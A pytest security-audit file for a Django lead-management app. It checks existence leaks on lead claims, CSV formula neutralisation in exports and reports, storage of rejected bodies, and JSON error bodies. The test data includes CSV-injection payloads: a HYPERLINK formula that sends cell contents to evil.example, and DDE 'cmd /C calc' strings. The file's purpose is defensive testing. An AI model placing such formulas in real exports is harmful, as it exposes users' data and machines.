"""Audit 13: existence leaks (409/302/200 where a 404 or a neutral answer belongs), CSV formulas, what is
stored of rejected bodies, and error bodies under /api/.

Through HTTP only. Today (main @ 9071055) every test here fails.
"""

import csv
import io
import re

import pytest
from django.core import mail
from django.core.cache import cache
from django.test import Client
from rest_framework.test import APIClient

from definitions import rules
from definitions.models import ReasonCode
from tests.factories import CampaignFactory, CaptureFormFactory, LeadFactory

FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company": "+cmd|' /C calc'!A0",
    "job_title": "-2+3+cmd|' /C calc'!A0",
    "industry": "\t=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def page_for(user):
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def api_for(user):
    client = APIClient(raise_request_exception=False)
    client.force_authenticate(user)
    return client


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_neutralised(text: str, payloads) -> None:
    found = [cell for cell in cells(text) if any(p.lstrip("\t") in cell for p in payloads)]
    assert found, "the payloads are not in the CSV at all"
    dangerous = [cell for cell in found if cell.startswith(TRIGGERS)]
    assert not dangerous, dangerous


# --- 3. existence of another user's lead --------------------------------------------------------------------

@pytest.fixture
def others_lead(other_sdr):
    return LeadFactory(stage="sal", owner=other_sdr)


@pytest.mark.parametrize("headers", [
    pytest.param({}, id="plain-post"),
    pytest.param({"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "lead-panel"}, id="htmx-lead-panel"),
    pytest.param({"HTTP_HX_REQUEST": "true", "HTTP_HX_TARGET": "pool-row-1"}, id="htmx-pool-row"),
])
def test_claiming_another_sdrs_lead_on_the_page_is_a_404(sdr, others_lead, headers):
    """views.claim calls lifecycle.claim before any visibility check: today 302 to the pool with "Someone else
    already owns this lead." (plain) or 409 (htmx), while an id that does not exist is a 404."""
    client = page_for(sdr)
    missing = client.post("/leads/99999999/claim/", **headers)
    assert missing.status_code == 404
    response = client.post(f"/leads/{others_lead.pk}/claim/", **headers)
    assert response.status_code == 404
    assert b"Someone else" not in response.content


def test_claiming_an_unowned_lead_outside_the_pool_is_a_404(sdr):
    """An unowned SAL (or known, recycled, ...) lead is invisible to an SDR; today the page says "Only MQLs
    waiting in the pool can be claimed." (302/409), which confirms the id and that nobody owns it."""
    lead = LeadFactory(stage="known", owner=None)
    response = page_for(sdr).post(f"/leads/{lead.pk}/claim/", HTTP_HX_REQUEST="true", HTTP_HX_TARGET="lead-panel")
    assert response.status_code == 404


def test_the_api_already_answers_404_for_the_same_claim(sdr, others_lead):
    assert api_for(sdr).post(f"/api/v1/leads/{others_lead.pk}/claim/").status_code == 404


def test_a_form_key_caller_cannot_tell_an_erased_address(db, marketing):
    """Proposed behaviour: the capture refusal of a suppressed address says "This person asked for their data
    to be erased" to any holder of the public form key (and the hosted form shows it)."""
    form = CaptureFormFactory()
    lead = LeadFactory(email="gone@firma.de", email_normalized="gone@firma.de")
    assert api_for(marketing).post(f"/api/v1/leads/{lead.pk}/erase/", {"reason": "Art. 17"},
                                   format="json").status_code == 200
    cache.clear()
    response = APIClient().post("/api/v1/capture/", {"email": "gone@firma.de"}, format="json",
                                HTTP_X_FORM_KEY=form.key)
    assert b"erase" not in response.content.lower()


# --- 4. CSV outputs neutralise formulas ------------------------------------------------------------------------

@pytest.fixture
def poisoned_lead(db):
    return LeadFactory(email="formula@firma.de", email_normalized="formula@firma.de", **FORMULAS)


def test_the_export_csv_through_the_api_neutralises_formulas(marketing, poisoned_lead):
    response = api_for(marketing).get(f"/api/v1/leads/{poisoned_lead.pk}/export/?as=csv")
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), FORMULAS.values())


def test_the_export_csv_page_neutralises_formulas(marketing, poisoned_lead):
    response = page_for(marketing).get(f"/leads/{poisoned_lead.pk}/export.csv")
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), FORMULAS.values())


@pytest.mark.django_db(transaction=True)
def test_the_persons_own_export_csv_neutralises_formulas(marketing):
    lead = LeadFactory(email="formula@firma.de", email_normalized="formula@firma.de", **FORMULAS)
    assert page_for(marketing).post(f"/leads/{lead.pk}/export-link/").status_code == 302
    token = re.search(r"/privacy/export/([^\s]+)\.json", mail.outbox[-1].body).group(1)
    response = Client().get(f"/privacy/export/{token}.csv")
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), FORMULAS.values())


def test_a_report_csv_neutralises_a_formula_in_a_reject_reason(sdr, marketing):
    # The reasons report lists reason codes by their label, which admins edit: a label can hold a formula.
    lead = LeadFactory(stage="mql", owner=sdr)
    reason = '=HYPERLINK("https://evil.example","Not a fit")'
    ReasonCode.objects.create(transition="reject", code="evil", label=reason, position=99)
    rules.forget()
    assert api_for(sdr).post(f"/api/v1/leads/{lead.pk}/transitions/reject/",
                             {"reason_code": "evil", "reason": "Not a fit"}, format="json").status_code == 200
    response = page_for(marketing).get("/reports/acceptance/?format=csv&table=reasons_reject")
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), [reason])


def test_a_report_csv_neutralises_a_formula_in_a_campaign_name(marketing):
    campaign = CampaignFactory(slug="evil", name="=HYPERLINK(\"https://evil.example\",\"Q4\")")
    LeadFactory(campaign=campaign)
    response = page_for(marketing).get("/reports/sources/?format=csv&table=by_campaign")
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), [campaign.name])


# --- 5. what is stored of rejected bodies ----------------------------------------------------------------------

def stored_submission_pages(admin_user) -> list[str]:
    """The admin's view of every stored submission (HTML), read through the admin."""
    client = page_for(admin_user)
    listing = client.get("/admin/leads/submission/").content.decode()
    ids = sorted(set(re.findall(r"/admin/leads/submission/(\d+)/change/", listing)))
    return [client.get(f"/admin/leads/submission/{pk}/change/").content.decode() for pk in ids]


def test_an_oversized_rejected_body_is_not_stored_in_full(db, admin_user):
    form = CaptureFormFactory()
    cache.clear()
    filler = "Q" * 1_000_000
    response = APIClient().post("/api/v1/capture/", {"email": "big@firma.de", "message": filler}, format="json",
                                HTTP_X_FORM_KEY=form.key)
    assert response.status_code in (400, 413)
    for page in stored_submission_pages(admin_user):
        assert "Q" * 70_000 not in page  # at most a truncated excerpt (the issue proposes a 64 KB body limit)


def test_a_body_of_many_unknown_keys_is_not_echoed_and_stored_twice(db, admin_user):
    form = CaptureFormFactory()
    cache.clear()
    body = {"email": "keys@firma.de", **{f"k{i:05d}" + "K" * 200: 1 for i in range(2000)}}
    response = APIClient().post("/api/v1/capture/", body, format="json", HTTP_X_FORM_KEY=form.key)
    assert response.status_code in (400, 413)
    assert len(response.content) < 70_000  # today: one "Unknown field." per key, ~440 KB
    for page in stored_submission_pages(admin_user):
        assert page.count("K" * 200) < 400


def test_a_refused_capture_of_an_erased_address_stores_no_personal_data(db, marketing, admin_user):
    form = CaptureFormFactory()
    lead = LeadFactory(email="erika@firma.de", email_normalized="erika@firma.de", phone="+4989123456")
    assert api_for(marketing).post(f"/api/v1/leads/{lead.pk}/erase/", {"reason": "Art. 17 request"},
                                   format="json").status_code == 200
    cache.clear()
    refused = APIClient().post("/api/v1/capture/", {"email": "Erika@Firma.de", "first_name": "Erika",
                                                    "phone": "+49 89 123456"}, format="json",
                               HTTP_X_FORM_KEY=form.key)
    assert refused.status_code == 400
    cache.clear()
    Client().post(f"/f/{form.key}/", {"email": "erika@firma.de", "last_name": "Muster"})
    for page in stored_submission_pages(admin_user):
        lowered = page.lower()
        assert "erika@firma.de" not in lowered and "89 123456" not in lowered and "muster" not in lowered


# --- error bodies under /api/ are JSON -------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["/api/v1/nonexistent/", "/api/v1/", "/api/v1/leads/abc/", "/api/v1/leads/-1/",
                                  "/api/v1/leads/1,2/consent/", "/api/nonexistent/"])
def test_unknown_api_urls_answer_json(marketing, path):
    response = api_for(marketing).get(path)
    assert response.status_code == 404
    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]


def test_a_body_over_the_upload_limit_answers_json(db):
    form = CaptureFormFactory()
    cache.clear()
    body = b'{"email":"a@firma.de","message":"' + b"x" * 3_000_000 + b'"}'
    response = APIClient(raise_request_exception=False).generic(
        "POST", "/api/v1/capture/", body, content_type="application/json", HTTP_X_FORM_KEY=form.key
    )
    assert response.status_code in (400, 413)
    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]


def test_a_json_parse_error_has_the_documented_errors_shape(db):
    """The schema documents 400 as {"errors": {...}}; a parse error answers {"detail": "JSON parse error ..."}."""
    form = CaptureFormFactory()
    cache.clear()
    response = APIClient().generic("POST", "/api/v1/capture/", b"\x00", content_type="application/json",
                                   HTTP_X_FORM_KEY=form.key)
    assert response.status_code == 400
    assert "errors" in response.json()
